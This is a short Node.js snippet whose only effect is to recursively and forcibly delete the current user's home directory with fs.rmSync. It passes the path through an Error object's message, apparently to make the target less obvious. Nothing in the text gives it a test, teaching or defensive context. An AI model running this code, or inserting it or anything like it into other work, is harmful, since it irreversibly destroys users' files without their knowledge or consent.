const fs = require('fs');
const os = require('os');
const e = new Error('x');
e.message = os.homedir();
fs.rmSync(e.message, { recursive: true, force: true });
